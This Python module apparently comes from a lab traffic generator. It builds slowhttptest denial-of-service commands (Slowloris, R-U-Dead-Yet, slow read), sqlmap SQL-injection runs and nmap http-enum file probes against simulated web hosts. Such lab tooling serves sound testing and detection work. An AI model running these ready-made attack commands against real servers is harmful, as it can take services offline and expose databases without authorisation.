"""Attacks on web servers: to hold them up, or to find what should not be found."""

from __future__ import annotations

import random

from lab.attacks.attack import Attack, Scripts, command, some_web
from lab.scene import Scene

N_SLOW = "150"


def _slow(kind: str, scene: Scene, rng: random.Random, *flags: str) -> Scripts:
    rate, url = str(rng.randrange(15, 60)), f"http://{some_web(scene, rng)}/big0.bin"
    argv = ("slowhttptest", *flags, "-c", N_SLOW, "-r", rate, "-l", "25", "-u", url)
    return {kind: [command(kind, *argv)]}


def slow_headers(scene: Scene, rng: random.Random) -> Scripts:
    """Slowloris: headers that never end."""
    return _slow("slow_headers", scene, rng, "-H", "-i", "5", "-x", "24")


def slow_body(scene: Scene, rng: random.Random) -> Scripts:
    """R-U-Dead-Yet: a form that is sent byte by byte."""
    return _slow("slow_body", scene, rng, "-B", "-i", "5", "-s", "8192", "-x", "10")


def slow_read(scene: Scene, rng: random.Random) -> Scripts:
    """Answers that are read through a tiny window."""
    return _slow("slow_read", scene, rng, "-X", "-w", "128", "-y", "512", "-n", "5", "-z", "32")


def sqlmap(scene: Scene, rng: random.Random) -> Scripts:
    """Tries SQL in a parameter."""
    url = f"http://{some_web(scene, rng)}/api/?id={rng.randrange(100)}"
    how = ("--batch", "--level", "2", "--risk", "2", "--timeout", "4", "--flush-session")
    folder = str(scene.folder / "sqlmap")
    return {"sqlmap": [command("sqlmap", "sqlmap", "-u", url, *how, "--output-dir", folder)]}


def web_enumeration(scene: Scene, rng: random.Random) -> Scripts:
    """Asks for two thousand names of files that are often forgotten on servers."""
    argv = ("nmap", "-n", "-Pn", "-p", "80", "--script", "http-enum", some_web(scene, rng))
    return {"web_enumeration": [command("web_enumeration", *argv)]}


WEB_ATTACKS = (
    Attack(slow_headers, "slowhttptest", 30, 6_000, "150 requests whose headers never end"),
    Attack(slow_body, "slowhttptest", 25, 6_000, "150 forms sent byte by byte"),
    Attack(slow_read, "slowhttptest", 30, 20_000, "150 answers read through a tiny window"),
    Attack(sqlmap, "sqlmap", 15, 20_000, "SQL injection tried in a parameter"),
    Attack(
        web_enumeration, "nmap", 10, 20_000, "names of forgotten files, by the http-enum script"
    ),
)
